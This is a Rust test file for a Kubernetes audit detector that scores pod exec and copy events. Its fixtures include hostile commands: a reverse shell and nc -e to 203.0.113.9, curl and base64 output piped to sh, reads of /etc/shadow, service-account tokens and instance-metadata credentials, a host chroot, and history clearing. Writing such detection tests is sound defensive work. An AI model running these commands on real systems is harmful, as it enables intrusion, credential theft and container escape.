use super::*;

#[test]
fn attacker_commands_are_rated_by_kind() {
    for (words, expected) in [
        (
            ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/44 0>&1"],
            "Execution:SuspiciousExecCommand 8.0",
        ),
        (
            ["sh", "-c", "curl -s http://203.0.113.9/x | sh"],
            "Execution:SuspiciousExecCommand 7.0",
        ),
        (
            ["sh", "-c", "echo aWQ= | base64 -d | sh"],
            "Execution:SuspiciousExecCommand 7.0",
        ),
        (
            ["chroot", "/host", "bash"],
            "Execution:SuspiciousExecCommand 7.0",
        ),
        (
            ["./cdk", "evaluate", "--full"],
            "Execution:SuspiciousExecCommand 6.0",
        ),
        (
            ["sh", "-c", "history -c"],
            "Execution:SuspiciousExecCommand 5.0",
        ),
        (
            ["nmap", "-sS", "10.0.0.0/8"],
            "Execution:SuspiciousExecCommand 4.0",
        ),
        (
            ["kubectl", "get", "pods"],
            "Execution:SuspiciousExecCommand 3.0",
        ),
        (
            ["apk", "add", "curl"],
            "Execution:SuspiciousExecCommand 3.0",
        ),
        (
            ["cat", "/etc/shadow", ""],
            "CredentialAccess:ExecSensitiveFile 6.0",
        ),
        (
            [
                "cat",
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
                "",
            ],
            "CredentialAccess:ExecSensitiveFile 5.0",
        ),
        (
            ["cat", "/proc/1/environ", ""],
            "CredentialAccess:ExecSensitiveFile 3.0",
        ),
        (
            ["curl", "-s", "http://169.254.169.254/"],
            "CredentialAccess:ExecInstanceMetadata 5.0",
        ),
        (
            [
                "curl",
                "-s",
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/x",
            ],
            "CredentialAccess:ExecInstanceMetadata 7.0",
        ),
    ] {
        assert_eq!(judge(exec("shop", "web", &words)), [expected], "{words:?}");
    }
}

#[test]
fn exec_raises_one_finding_per_theme_with_all_evidence() {
    let script = "cat /etc/shadow; curl http://203.0.113.9/x | sh; nc 203.0.113.9 44 -e sh";
    let mut harness = Harness::<PodExec>::new();
    let found = harness
        .audit_event(exec("shop", "web", &["sh", "-c", script]))
        .unwrap();
    assert_eq!(
        shown(&found),
        [
            "Execution:SuspiciousExecCommand 8.0",
            "CredentialAccess:ExecSensitiveFile 6.0"
        ]
    );
    let commands: Vec<&str> = found[0]
        .evidence
        .iter()
        .filter(|(field, _)| field == "requestURI?command")
        .map(|(_, value)| value.as_str())
        .collect();
    assert_eq!(commands.len(), 3, "{commands:?}");
}

#[test]
fn copies_are_rated_by_their_files() {
    for (pod, words, expected) in [
        (
            "web-1",
            ["tar", "cf", "-", "/tmp/heap.bin"],
            "Exfiltration:KubectlCp 3.0",
        ),
        (
            "web-1",
            ["tar", "xmf", "-", "-C"],
            "Exfiltration:KubectlCp 2.0",
        ),
        (
            "postgres-0",
            ["tar", "cf", "-", "/tmp/dump.sql"],
            "Exfiltration:KubectlCp 3.0",
        ),
        (
            "postgres-0",
            ["tar", "cf", "-", "/data/base"],
            "Exfiltration:KubectlCp 5.0",
        ),
        (
            "web-1",
            ["tar", "cf", "-", "/etc"],
            "Exfiltration:KubectlCp 5.0",
        ),
    ] {
        assert_eq!(judge(exec("shop", pod, &words)), [expected], "{words:?}");
    }
}

#[test]
fn denied_execs_are_reported_only_for_suspicious_commands() {
    let denied = |words: &[&str]| {
        stream(
            request("create", "pods/exec", "kube-system", "x").code(403),
            words,
        )
    };
    assert!(judge(denied(&["sh"])).is_empty());
    assert_eq!(
        judge(denied(&["nc", "203.0.113.9", "44", "-e", "/bin/sh"])),
        ["Execution:SuspiciousExecCommand 3.0"]
    );
}

#[test]
fn trusted_users_are_reported_only_for_suspicious_commands() {
    let by = |words: &[&str]| {
        stream(
            request("create", "pods/exec", "velero", "x")
                .user(SERVICE_ACCOUNT)
                .code(101),
            words,
        )
    };
    let mut harness = Harness::<PodExec>::new()
        .setting("trusted-users", [SERVICE_ACCOUNT])
        .setting(
            "trusted-commands",
            ["sh -c /opt/hook.sh", "cat /etc/shadow"],
        );
    assert!(
        harness
            .audit_event(by(&["fsfreeze", "-f", "/"]))
            .unwrap()
            .is_empty()
    );
    assert!(
        harness
            .audit_event(by(&["cat", "/etc/shadow"]))
            .unwrap()
            .is_empty()
    );
    let found = harness.audit_event(by(&["chroot", "/host"])).unwrap();
    assert_eq!(shown(&found), ["Execution:SuspiciousExecCommand 7.0"]);
    let mut harness = Harness::<PodExec>::new()
        .setting("trusted-namespaces", ["shop"])
        .setting("remember", Duration::from_secs(60));
    assert!(
        harness
            .audit_event(exec("shop", "web", &["sh"]))
            .unwrap()
            .is_empty()
    );
}
